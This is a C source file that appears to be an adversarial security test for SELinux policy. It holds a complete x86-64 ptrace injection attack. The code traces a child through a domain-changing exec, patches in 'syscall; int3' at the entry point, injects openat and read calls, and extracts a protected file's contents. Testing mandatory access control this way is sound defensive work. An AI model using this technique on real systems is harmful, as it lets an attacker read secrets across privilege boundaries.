/*
 * Attack: the old domain steers a process that entered another domain.
 * A child asks to be traced (PTRACE_TRACEME) and executes PROGRAM, whose
 * exec moves it into a domain that may read SECRET; stopped before its
 * first instruction, it is made to open and read SECRET (system calls
 * injected at its entry point), and the parent reads the bytes out of its
 * memory. SELinux would refuse the traced transition unless the tracer's
 * domain may `process ptrace` the new one, and a later PTRACE_ATTACH the
 * same way.
 *
 * Usage: ptrace_inject PROGRAM SECRET (x86-64).
 */
#include "adversarial.h"
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>

/* Runs system call `nr` in the stopped `pid` at `at`'s instruction
 * pointer, where `syscall; int3` was written; returns its result. */
static long inject(pid_t pid, const struct user_regs_struct *at, long nr, long a0, long a1, long a2) {
    struct user_regs_struct r = *at;
    r.rax = nr;
    r.orig_rax = -1;
    r.rdi = a0;
    r.rsi = a1;
    r.rdx = a2;
    r.r10 = 0;
    if (ptrace(PTRACE_SETREGS, pid, 0, &r) != 0) verdict(BROKEN, "PTRACE_SETREGS: %s", strerror(errno));
    if (ptrace(PTRACE_CONT, pid, 0, 0) != 0) verdict(BROKEN, "PTRACE_CONT: %s", strerror(errno));
    int status;
    if (waitpid(pid, &status, 0) != pid || !WIFSTOPPED(status))
        verdict(BROKEN, "the traced child did not stop after the injected call (status %#x)", status);
    if (ptrace(PTRACE_GETREGS, pid, 0, &r) != 0) verdict(BROKEN, "PTRACE_GETREGS: %s", strerror(errno));
    return (long)r.rax;
}

/* Copies `len` bytes (a multiple of 8) to the child's memory at `addr`. */
static void poke(pid_t pid, unsigned long addr, const void *src, size_t len) {
    for (size_t i = 0; i < len; i += 8) {
        long word;
        memcpy(&word, (const char *)src + i, 8);
        if (ptrace(PTRACE_POKEDATA, pid, addr + i, word) != 0) verdict(BROKEN, "PTRACE_POKEDATA: %s", strerror(errno));
    }
}

int main(int argc, char **argv) {
    if (argc != 3) verdict(BROKEN, "usage: ptrace_inject PROGRAM SECRET");
    pid_t child = fork();
    if (child < 0) verdict(BROKEN, "fork: %s", strerror(errno));
    if (child == 0) {
        if (ptrace(PTRACE_TRACEME, 0, 0, 0) != 0) _exit(is_denial(errno) ? 10 : 11);
        execl(argv[1], argv[1], (char *)NULL);
        _exit(is_denial(errno) ? 12 : 13);
    }
    int status;
    if (waitpid(child, &status, 0) != child) verdict(BROKEN, "waitpid: %s", strerror(errno));
    if (WIFEXITED(status)) {
        switch (WEXITSTATUS(status)) {
        case 10: verdict(BLOCKED, "PTRACE_TRACEME was refused");
        case 12: verdict(BLOCKED, "the traced exec of %s was refused", argv[1]);
        default: verdict(BROKEN, "the child exited with %d before the exec stop", WEXITSTATUS(status));
        }
    }
    if (!WIFSTOPPED(status) || WSTOPSIG(status) != SIGTRAP)
        verdict(BROKEN, "the child did not stop at its exec (status %#x)", status);
    struct user_regs_struct at;
    if (ptrace(PTRACE_GETREGS, child, 0, &at) != 0) verdict(BROKEN, "PTRACE_GETREGS: %s", strerror(errno));
    /* syscall; int3 at the entry point, the path and a buffer below the
     * stack pointer (the kernel maps 128 KiB more of stack there). */
    errno = 0;
    long code = ptrace(PTRACE_PEEKTEXT, child, at.rip, 0);
    if (errno != 0) verdict(BROKEN, "PTRACE_PEEKTEXT: %s", strerror(errno));
    memcpy(&code, "\x0f\x05\xcc", 3);
    if (ptrace(PTRACE_POKETEXT, child, at.rip, code) != 0) verdict(BROKEN, "PTRACE_POKETEXT: %s", strerror(errno));
    char path[4096] = {0};
    size_t len = strlen(argv[2]);
    if (len >= sizeof path - 8) verdict(BROKEN, "path too long");
    memcpy(path, argv[2], len);
    unsigned long path_at = (at.rsp - 16384) & ~7UL, buf_at = (at.rsp - 8192) & ~7UL;
    poke(child, path_at, path, (len + 8) & ~7UL);
    long fd = inject(child, &at, 257 /* openat */, -100 /* AT_FDCWD */, (long)path_at, O_RDONLY);
    if (fd < 0) {
        kill(child, SIGKILL);
        if (is_denial((int)-fd)) verdict(BLOCKED, "the traced child's open of %s was denied", argv[2]);
        verdict(BROKEN, "the traced child's open of %s: %s", argv[2], strerror((int)-fd));
    }
    long n = inject(child, &at, 0 /* read */, fd, (long)buf_at, 200);
    if (n <= 0) {
        kill(child, SIGKILL);
        if (n < 0 && is_denial((int)-n)) verdict(BLOCKED, "the traced child's read of %s was denied", argv[2]);
        verdict(BROKEN, "the traced child's read of %s returned %ld", argv[2], n);
    }
    char buf[208] = {0};
    for (long i = 0; i < n; i += 8) {
        errno = 0;
        long word = ptrace(PTRACE_PEEKDATA, child, buf_at + i, 0);
        if (errno != 0) verdict(BROKEN, "PTRACE_PEEKDATA: %s", strerror(errno));
        memcpy(buf + i, &word, 8);
    }
    buf[n] = 0;
    buf[strcspn(buf, "\n")] = 0;
    kill(child, SIGKILL);
    verdict(SUCCEEDED, "the traced child read %s in the new domain: %s", argv[2], buf);
}
